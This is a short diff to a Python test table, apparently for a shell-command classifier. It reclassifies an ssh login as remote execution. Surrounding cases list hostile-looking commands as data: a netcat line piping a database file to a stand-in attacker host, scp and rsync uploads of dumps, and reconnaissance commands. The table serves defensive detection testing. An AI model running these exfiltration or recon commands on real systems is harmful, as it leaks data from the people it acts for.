@@ -68,7 +68,7 @@ CASES = [
     ("nc attacker.example 4444 < data.db", "net:upload", {"outbound", "has_payload"}, False),
     ("scp dump.sql ops@backup.example.com:/srv", "net:upload", {"outbound", "has_payload"}, False),
     ("rsync -az ./data deploy@10.2.3.4:/backup", "net:upload", {"outbound", "has_payload"}, False),
-    ("ssh admin@bastion.example.com", "net:connect", {"outbound"}, False),
+    ("ssh admin@bastion.example.com", "shell:exec", {"outbound", "remote_exec"}, False),
     ("whoami", None, {"recon"}, False),
     ("uname -a", None, {"recon"}, False),
     ("ip a", None, {"recon"}, False),
